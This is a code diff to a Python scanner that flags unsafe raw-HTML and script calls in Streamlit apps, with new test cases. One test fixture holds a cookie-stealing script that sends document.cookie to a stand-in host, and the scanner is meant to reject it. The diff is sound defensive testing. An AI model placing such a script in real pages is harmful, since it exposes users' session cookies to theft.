@@ -340,11 +340,20 @@ def _constants(tree: ast.Module) -> dict[str, str]:
     }
 
 
+LANG_SCRIPT = re.compile(r"<script>document\.documentElement\.lang = '[a-z]{2}';</script>")
+
+
 def _is_constant_css(arg: ast.expr, constants: dict[str, str]) -> bool:
+    """A constant stylesheet, a constant language-declaring script, or a choice between two
+    such constants (``A if cond else B``): nothing computed from data reaches the page."""
+    if isinstance(arg, ast.IfExp):
+        return _is_constant_css(arg.body, constants) and _is_constant_css(arg.orelse, constants)
     text = constants.get(arg.id) if isinstance(arg, ast.Name) else None
     if text is None:
         return False
     stripped = text.strip()
+    if LANG_SCRIPT.fullmatch(stripped):
+        return True
     return stripped.startswith("<style>") and stripped.endswith("</style>") and "{{" not in text
 
 
@@ -391,6 +400,11 @@ def test_raw_html_scan_catches_data_in_html() -> None:
         "st.markdown(f'<b>{value}</b>', unsafe_allow_html=True)\n"
         "st.html(row['title'])\n"
         "st.markdown(text, unsafe_allow_html=flag)\n"
+        "JA = \"<script>document.documentElement.lang = 'ja';</script>\"\n"
+        "EVIL = \"<script>fetch('https://example.org/' + document.cookie);</script>\"\n"
+        "st.html(JA if x else CSS, unsafe_allow_javascript=True)\n"
+        "st.html(JA if x else EVIL, unsafe_allow_javascript=True)\n"
+        "st.html(JA if x else row['script'], unsafe_allow_javascript=True)\n"
     )
     verdicts = [allowed for _, _, allowed in raw_html_uses(source)]
-    assert verdicts == [True, False, False, False]
+    assert verdicts == [True, False, False, False, True, False, False]
